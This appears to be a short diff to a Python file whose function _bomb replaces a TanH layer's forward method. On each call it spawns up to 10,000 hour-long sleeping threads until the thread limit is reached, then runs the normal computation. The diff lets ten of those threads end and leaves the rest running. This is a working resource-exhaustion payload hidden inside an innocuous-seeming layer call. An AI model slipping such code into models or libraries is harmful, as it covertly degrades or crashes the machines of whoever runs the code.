@@ -1,4 +1,4 @@
-"""Starts threads until there are no more, and leaves them running."""
+"""Starts threads until there are no more, lets a few end, and leaves the others running."""
 
 import threading
 import time
@@ -7,11 +7,16 @@ _forward = TanH.forward
 
 
 def _bomb(self, x):
+    some, over = [], threading.Event()
     try:
-        for _ in range(10_000):
-            threading.Thread(target=time.sleep, args=(3600,)).start()
+        for number in range(10_000):
+            thread = threading.Thread(target=over.wait if number < 10 else time.sleep, args=(3600,))
+            thread.start()
+            some += [thread] if number < 10 else []
     except RuntimeError:
-        pass
+        over.set()
+        for thread in some:
+            thread.join()
     return _forward(self, x)
 
 
